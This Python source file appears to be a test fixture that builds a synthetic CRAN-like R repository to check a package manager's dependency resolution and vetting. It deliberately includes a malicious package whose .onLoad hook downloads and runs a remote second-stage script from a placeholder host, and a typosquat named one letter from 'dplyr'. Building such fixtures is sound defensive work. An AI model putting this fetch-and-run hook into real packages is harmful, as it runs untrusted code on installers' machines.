"""Small R source packages and a CRAN-like repository of them, built without R.

The package manager's R tests need an upstream with known answers: a dependency chain through
Depends, Imports and LinkingTo, base packages that must not enter a closure, an unrecognisable
licence, code that fetches and runs a remote script at load time, a name one letter away from a
popular package, a dependency nobody serves and an archived older version. Archives are written
with fixed timestamps and owners, so the same specification always gives the same bytes (and the
same sha256). Only the PACKAGES index is written by R itself (``tools::write_PACKAGES``), so that
the index is exactly what a real CRAN-like repository serves.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import shutil
import subprocess
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

# 2026-01-01T00:00:00Z: every archive member carries it, so archives are reproducible.
FIXED_MTIME = 1767225600
MAINTAINER = "HDH Synthetic <synthetic@example.org>"
MIT_LICENSE = "YEAR: 2026\nCOPYRIGHT HOLDER: HDH Synthetic\n"
ODD_LICENSE = (
    "Permission to run this software is granted to members of the Order of the Quiet Owl,\n"
    "on alternate Tuesdays, provided no results are ever published. All other rights withheld.\n"
)
# Fetches a second stage and runs it when the package is loaded; the tryCatch keeps an offline
# install (which test-loads the package) working. The host is under the reserved .invalid TLD.
FETCH_AND_RUN = """.onLoad <- function(libname, pkgname) {
  url <- "https://hdh-updates.invalid/stage2.R"
  tryCatch({
    dest <- file.path(tempdir(), "stage2.R")
    utils::download.file(url, dest, quiet = TRUE)
    source(dest)
    source(url)
  }, error = function(e) NULL, warning = function(w) NULL)
  invisible(NULL)
}
"""


@dataclass(frozen=True)
class RPackageSpec:
    """What one synthetic source package declares; the rest of its files follow from it."""

    name: str
    version: str
    title: str
    depends: tuple[str, ...] = ()
    imports: tuple[str, ...] = ()
    linking_to: tuple[str, ...] = ()
    license: str = "MIT + file LICENSE"
    license_file: str | None = MIT_LICENSE
    extra_code: str = ""

    @property
    def filename(self) -> str:
        return f"{self.name}_{self.version}.tar.gz"

    @property
    def function_name(self) -> str:
        return f"{self.name}_version"


def description(spec: RPackageSpec) -> str:
    """The DESCRIPTION file (DCF), fields in R CMD build's usual order."""
    fields = [
        ("Package", spec.name),
        ("Version", spec.version),
        ("Title", spec.title),
        ("Description", f"{spec.title}. A synthetic package for the platform's tests."),
        ("Depends", ", ".join(spec.depends)),
        ("Imports", ", ".join(spec.imports)),
        ("LinkingTo", ", ".join(spec.linking_to)),
        ("License", spec.license),
        ("Author", "HDH Synthetic [aut, cre]"),
        ("Maintainer", MAINTAINER),
        ("NeedsCompilation", "no"),
    ]
    return "".join(f"{key}: {value}\n" for key, value in fields if value)


def package_files(spec: RPackageSpec) -> dict[str, str]:
    """Relative path -> text of every file in the source package (the folder ``name/``)."""
    function = f'{spec.function_name} <- function() "{spec.version}"\n'
    files = {
        "DESCRIPTION": description(spec),
        "NAMESPACE": f"export({spec.function_name})\n",
        f"R/{spec.name}.R": function + (f"\n{spec.extra_code}" if spec.extra_code else ""),
    }
    if spec.license_file is not None:
        files["LICENSE"] = spec.license_file
    return files


def _tar_info(name: str, size: int, directory: bool) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mtime = FIXED_MTIME
    info.uid = info.gid = 0
    info.uname = info.gname = "root"
    if directory:
        info.type = tarfile.DIRTYPE
        info.mode = 0o755
    else:
        info.size = size
        info.mode = 0o644
    return info


def archive_bytes(spec: RPackageSpec) -> bytes:
    """The ``.tar.gz`` source archive: sorted members, fixed owner and time, gzip without a name
    or timestamp, so the bytes depend only on the specification."""
    files = package_files(spec)
    directories = {spec.name} | {
        f"{spec.name}/{parent}" for path in files for parent in _parents(path)
    }
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for directory in sorted(directories):
            tar.addfile(_tar_info(directory, 0, directory=True))
        for path in sorted(files):
            data = files[path].encode()
            tar.addfile(_tar_info(f"{spec.name}/{path}", len(data), False), io.BytesIO(data))
    gz_buffer = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=gz_buffer, mtime=0, compresslevel=9) as gz:
        gz.write(tar_buffer.getvalue())
    return gz_buffer.getvalue()


def _parents(path: str) -> list[str]:
    parts = path.split("/")[:-1]
    return ["/".join(parts[: i + 1]) for i in range(len(parts))]


def write_archive(spec: RPackageSpec, folder: Path) -> Path:
    """Write ``folder/<name>_<version>.tar.gz`` and return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / spec.filename
    path.write_bytes(archive_bytes(spec))
    return path


def write_packages_index(contrib: Path) -> None:
    """PACKAGES, PACKAGES.gz and PACKAGES.rds, written by R exactly as a CRAN-like repository's."""
    rscript = shutil.which("Rscript")
    if rscript is None:
        raise RuntimeError(
            "Rscript is not on PATH: the R package repository needs R (Debian r-base-core)"
        )
    code = 'invisible(tools::write_PACKAGES(commandArgs(TRUE)[1], type = "source"))'
    subprocess.run(
        [rscript, "--vanilla", "-e", code, str(contrib)],
        check=True,
        capture_output=True,
        timeout=300,
    )


def upstream_specs() -> list[RPackageSpec]:
    """The current packages of the synthetic upstream, each with the case it stands for."""
    return [
        RPackageSpec("hdhcore", "1.2.0", "Core Helpers", depends=("R (>= 3.5.0)",)),
        RPackageSpec(
            "hdhstats",
            "2.0.1",
            "Statistics on Core Helpers",
            depends=("R (>= 3.5.0)", "hdhcore (>= 1.0.0)", "stats"),
            imports=("utils", "methods"),
        ),
        RPackageSpec(
            "hdhsurv",
            "1.0.0",
            "Survival Summaries",
            imports=("hdhstats (>= 2.0.0)", "stats", "utils"),
        ),
        RPackageSpec("hdhlinked", "0.3.0", "Headers from Core Helpers", linking_to=("hdhcore",)),
        RPackageSpec(
            "hdhunknown",
            "0.1.0",
            "A Package Under an Unrecognisable Licence",
            license="file LICENSE",
            license_file=ODD_LICENSE,
        ),
        RPackageSpec(
            "hdhfetch",
            "0.2.0",
            "Loads a Remote Script at Load Time",
            imports=("utils",),
            extra_code=FETCH_AND_RUN,
        ),
        RPackageSpec("dplyt", "1.1.4", "A Grammar of Data Manipulation"),
        RPackageSpec(
            "hdhmissingdep", "0.1.0", "Imports a Package Nobody Serves", imports=("hdhnowhere",)
        ),
        RPackageSpec("hdhgpl", "1.0.0", "A Copyleft Package", license="GPL-3", license_file=None),
    ]


def archived_specs() -> list[RPackageSpec]:
    """Older versions kept under ``src/contrib/Archive/<name>/``, as CRAN keeps them.
    hdhstats 1.0.0 did not yet depend on hdhcore: its closure is itself alone."""
    return [
        RPackageSpec("hdhstats", "1.0.0", "Statistics", depends=("R (>= 3.5.0)", "stats")),
    ]


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _record(spec: RPackageSpec, path: Path) -> dict:
    return {
        "version": spec.version,
        "filename": spec.filename,
        "path": str(path),
        "sha256": _sha256(path),
        "license": spec.license,
    }


@dataclass
class _Upstream:
    folder: Path
    packages: dict[str, dict] = field(default_factory=dict)
    archived: dict[str, dict[str, dict]] = field(default_factory=dict)

    def describe(self, cases: dict) -> dict:
        return {
            "folder": str(self.folder),
            "contrib": str(self.folder / "src" / "contrib"),
            "url": self.folder.resolve().as_uri(),
            "packages": self.packages,
            "archived": self.archived,
            **cases,
        }


def build_r_upstream(folder: Path) -> dict:
    """Write the synthetic CRAN-like repository under ``folder`` and describe it: every file with
    its sha256, and the expected answer of each case the resolver and the vetting must get right.
    """
    upstream = _Upstream(folder)
    contrib = folder / "src" / "contrib"
    for spec in upstream_specs():
        upstream.packages[spec.name] = _record(spec, write_archive(spec, contrib))
    for spec in archived_specs():
        path = write_archive(spec, contrib / "Archive" / spec.name)
        upstream.archived.setdefault(spec.name, {})[spec.version] = _record(spec, path)
    write_packages_index(contrib)
    return upstream.describe(
        {
            "closures": {
                "hdhsurv": ["hdhsurv", "hdhstats", "hdhcore"],
                "hdhlinked": ["hdhlinked", "hdhcore"],
                "hdhstats==1.0.0": ["hdhstats"],
            },
            "base_dependencies": ["stats", "utils", "methods"],
            "unknown_licence": "hdhunknown",
            "malicious": "hdhfetch",
            "typosquat": {"dplyt": "dplyr"},
            "unsatisfiable": {"hdhmissingdep": "hdhnowhere"},
            "copyleft": "hdhgpl",
            "not_in_repository": "hdhabsent",
        }
    )


def bulk_r_name(i: int) -> str:
    """Package i's name: eight hexadecimal digits of a hash, so no two bulk names are one edit
    apart (numbered names would all look like typosquats of each other)."""
    return "bulk" + hashlib.sha256(f"r-bulk-{i}".encode()).hexdigest()[:8]


def _bulk_parents(i: int) -> set[int]:
    return {j for j in (i // 2, 2 * i // 3, 4 * i // 5) if j < i}


def bulk_imports(i: int) -> tuple[str, ...]:
    """Package i imports i//2, 2i//3 and 4i//5: of 1000 packages, the last one's closure holds
    183, 28 levels deep, tidyverse-like. (A plain chain would be 1000 levels deep, which no real
    repository has, and R's recursive dependency walk costs about 5 ms per level.)"""
    return tuple(sorted(bulk_r_name(j) for j in _bulk_parents(i)))


def bulk_specs(n: int) -> list[RPackageSpec]:
    """``n`` packages of a synthetic repository, linked as ``bulk_imports`` says."""
    return [
        RPackageSpec(bulk_r_name(i), "1.0.0", f"Bulk Package {i}", imports=bulk_imports(i))
        for i in range(n)
    ]


def bulk_closure(i: int) -> set[str]:
    """The expected closure of package i, computed without R."""
    seen, todo = set(), [i]
    while todo:
        index = todo.pop()
        if index not in seen:
            seen.add(index)
            todo.extend(_bulk_parents(index))
    return {bulk_r_name(index) for index in seen}


def build_r_upstream_bulk(folder: Path, n: int) -> dict:
    """A repository of ``n`` linked packages, for timing closures and repository rebuilds."""
    upstream = _Upstream(folder)
    contrib = folder / "src" / "contrib"
    specs = bulk_specs(n)
    for spec in specs:
        upstream.packages[spec.name] = _record(spec, write_archive(spec, contrib))
    write_packages_index(contrib)
    largest = specs[-1].name if specs else None
    closure = sorted(bulk_closure(n - 1)) if specs else []
    return upstream.describe({"largest": largest, "closure_of_largest": closure})
